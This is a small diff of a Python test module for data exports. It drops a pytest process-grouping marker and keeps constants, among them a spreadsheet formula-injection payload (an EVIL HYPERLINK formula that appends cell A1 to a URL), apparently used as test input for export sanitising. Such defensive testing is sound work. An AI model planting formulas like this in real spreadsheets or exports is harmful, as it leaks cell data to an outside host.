@@ -38,7 +38,6 @@ from tests.reviewing import add_people, review_all
 from tests.stored import NOW
 
 pytest_plugins = ["tests.databases"]
-pytestmark = pytest.mark.xdist_group("exporting")  # one process: what the tests share takes seconds to make
 RATES = "pages/reports/error_rates.py"
 SEED = "20261125090000000001"
 EVIL = '=HYPERLINK("http://127.0.0.1/?"&A1)'
